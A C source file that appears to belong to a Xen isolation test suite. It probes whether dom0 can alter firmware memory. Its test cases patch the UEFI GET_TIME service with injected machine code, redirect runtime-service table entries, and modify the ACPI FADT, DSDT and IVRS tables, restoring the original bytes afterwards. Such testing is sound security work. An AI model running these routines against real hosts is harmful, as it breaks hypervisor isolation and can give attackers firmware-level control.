// SPDX-License-Identifier: GPL-2.0-only
/*
 * The firmware's own memory: code that Xen runs, tables that Xen reads, and
 * tables that the firmware reads itself when the machine wakes.
 */
#include "firmware.h"

/* ---- runtime services ---- */

struct efi_range {
    uint64_t start, size;
};

#define RUNTIME_DATA 6

/* The next range of memory of this type in UEFI's map. */
static bool next_range(uint32_t type, struct efi_range *range)
{
    static const uint64_t end = 1UL << 32, step = 1UL << 16;
    uint64_t at = range->start + range->size;

    while ( at < end )
    {
        struct xen_platform_op op = { .cmd = XENPF_firmware_info,
                                      .u.firmware_info = {
                                          .type = XEN_FW_EFI_INFO,
                                          .index = XEN_FW_EFI_MEM_INFO,
                                          .u.efi_info.mem = {
                                              .addr = at, .size = -1UL } } };
        const uint64_t size = platform_op(&op)
                                  ? step
                                  : op.u.firmware_info.u.efi_info.mem.size;

        if ( size != step && op.u.firmware_info.u.efi_info.mem.type == type )
        {
            *range = (struct efi_range){ at, size };
            return true;
        }
        at += size;
    }

    return false;
}

uint64_t firmware_first(uint32_t type)
{
    struct efi_range range = { 0, 0 };

    return next_range(type, &range) ? range.start : 0;
}

uint64_t firmware_last(uint32_t type)
{
    struct efi_range range = { 0, 0 };

    return next_range(type, &range) ? range.start + range.size - PAGE_SIZE : 0;
}

static uint64_t find_table(const struct efi_range *range)
{
    static const char signature[] = "RUNTSERV";

    for ( uint64_t at = range->start; at < range->start + range->size;
          at += PAGE_SIZE )
    {
        volatile void *page = map_machine(at / PAGE_SIZE, 1);
        const char *found = NULL;

        if ( page && can_read(page, 0) )
            found = memmem((void *)page, PAGE_SIZE, signature, 8);
        if ( found )
            at += (uint64_t)(found - (char *)page);
        if ( page )
            unmap_machine(page, 1);
        if ( found )
            return at;
    }

    return 0;
}

uint64_t runtime_table(void)
{
    static uint64_t table;

    for ( struct efi_range range = { 0, 0 };
          !table && next_range(RUNTIME_DATA, &range); )
        table = find_table(&range);

    return table;
}

/* Services are listed behind a header. */
static volatile uint64_t *map_services(void)
{
    static const unsigned int header = 24;
    const uint64_t table = runtime_table();
    volatile char *page = table ? map_machine(table / PAGE_SIZE, 2) : NULL;

    return page && can_read(page, 0)
               ? (void *)(page + table % PAGE_SIZE + header)
               : NULL;
}

uint64_t firmware_service(unsigned int index)
{
    volatile uint64_t *services = map_services();

    return services ? services[index] : 0;
}

/* The year, as the firmware's clock has it. */
static uint16_t firmware_year(void)
{
    struct xen_platform_op op = { .cmd = XENPF_efi_runtime_call,
                                  .u.efi_runtime_call.function =
                                      XEN_EFI_get_time };

    return platform_op(&op) || op.u.efi_runtime_call.status
               ? 0
               : op.u.efi_runtime_call.u.get_time.time.year;
}

/*
 * K-RUNTIME-CODE: change code that Xen runs.
 *
 * Xen asks the firmware for the time, in the processor's most privileged mode.
 * Code of ours in its place answers with a year of ours.
 */
KERNEL_ATTACK("K-RUNTIME-CODE", "code of dom0's as a service of the firmware's")
{
    /* movw $year, (%rcx); xor %eax, %eax; ret */
    static const uint8_t code[] = { 0x66, 0xc7, 0x01, 0x4b,
                                    0x52, 0x31, 0xc0, 0xc3 };
    static const uint16_t year = 0x524b;
    const uint64_t service = firmware_service(GET_TIME);
    volatile char *page = service ? map_machine(service / PAGE_SIZE, 2) : NULL;
    uint8_t before[sizeof(code)];
    void *there;
    bool ran;

    if ( !page || !can_read(page, 0) )
        return effect(false, "the firmware's code cannot be mapped");
    if ( !can_change(page, service % PAGE_SIZE) )
        return effect(false, "the firmware's code cannot be changed");
    there = (char *)page + service % PAGE_SIZE;
    memcpy(before, there, sizeof(code));
    memcpy(there, code, sizeof(code));
    ran = firmware_year() == year;
    memcpy(there, before, sizeof(code));

    return effect_either(ran, "code of ours", "ran in Xen", "did not run");
}

/*
 * K-RUNTIME-TABLE: change which code Xen runs.
 *
 * The service that counts stands in for the clock, so that the year is a small
 * number.
 */
KERNEL_ATTACK("K-RUNTIME-TABLE", "another service in the clock's place")
{
    const uint16_t year = firmware_year();
    volatile uint64_t *services = map_services();
    uint64_t before;
    uint16_t told;

    if ( !year )
        return cannot_try("the firmware has no clock");
    if ( !services || !can_change((void *)services, 0) )
        return effect(false, "the table of services cannot be changed");
    before = services[GET_TIME];
    services[GET_TIME] = services[NEXT_MONOTONIC_COUNT];
    told = firmware_year();
    services[GET_TIME] = before;

    return effect(told != year && told < 1900, "the year %u, and then %u", year,
                  told);
}

/* ---- tables ---- */

/* A word of the machine's memory, 0 if it cannot be read. */
static uint64_t read_machine(uint64_t address, unsigned int size)
{
    volatile char *page = map_machine(address / PAGE_SIZE, 2);
    uint64_t value = 0;

    if ( page && can_read(page, address % PAGE_SIZE) )
        memcpy(&value, (char *)page + address % PAGE_SIZE, size);
    if ( page )
        unmap_machine(page, 2);

    return value;
}

/* Where the firmware's list of tables has the root of ACPI's. */
static uint64_t acpi_root(void)
{
    static const uint64_t acpi2[] = { 0x11d3e4f18868e871, 0x81883cc7800022bc };
    struct xen_platform_op op = { .cmd = XENPF_firmware_info,
                                  .u.firmware_info = {
                                      .type = XEN_FW_EFI_INFO,
                                      .index = XEN_FW_EFI_CONFIG_TABLE } };
    const struct xenpf_firmware_info *info = &op.u.firmware_info;

    if ( platform_op(&op) )
        return 0;
    for ( uint64_t i = 0; i < info->u.efi_info.cfg.nent; i++ )
    {
        const uint64_t entry = info->u.efi_info.cfg.addr + 24 * i;

        if ( read_machine(entry, 8) == acpi2[0] &&
             read_machine(entry + 8, 8) == acpi2[1] )
            return read_machine(entry + 16, 8);
    }

    return 0;
}

uint64_t acpi_table(const char *signature)
{
    const uint64_t root = acpi_root(),
                   list = root ? read_machine(root + 24, 8) : 0;
    const uint64_t end = list ? list + read_machine(list + 4, 4) : 0;

    for ( uint64_t at = list + 36; at + 8 <= end; at += 8 )
    {
        const uint64_t table = read_machine(at, 8);
        const uint32_t name = (uint32_t)read_machine(table, 4);

        if ( !memcmp(&name, signature, sizeof(name)) )
            return table;
    }

    return 0;
}

uint64_t facs_table(void)
{
    const uint64_t fadt = acpi_table("FACP");

    return fadt ? read_machine(fadt + 36, 4) : 0;
}

static enum outcome change_table(uint64_t address, const char *what)
{
    if ( !address )
        return cannot_try("%s is not to be found", what);
    return change_machine(address, what);
}

/* K-ACPI: a table by which the machine is switched off and its clock is read. */
KERNEL_ATTACK_BY("K-ACPI", "change a table of the firmware's",
                 change_table(acpi_table("FACP") + 16, "the table FADT"))

/* K-ACPI-DSDT: the code that all who ask for power management run. */
KERNEL_ATTACK_BY("K-ACPI-DSDT", "change the firmware's code for ACPI",
                 change_table(read_machine(acpi_table("FACP") + 40, 4) + 16,
                              "the table DSDT"))

/* K-IOMMU-TABLE: the table by which Xen knows the IOMMU. */
KERNEL_ATTACK("K-IOMMU-TABLE", "change the table of the IOMMU")
{
    const uint64_t amd = acpi_table("IVRS");

    if ( !amd )
        return not_applicable("this machine has no IOMMU");
    return change_table(amd + 16, "the table IVRS");
}
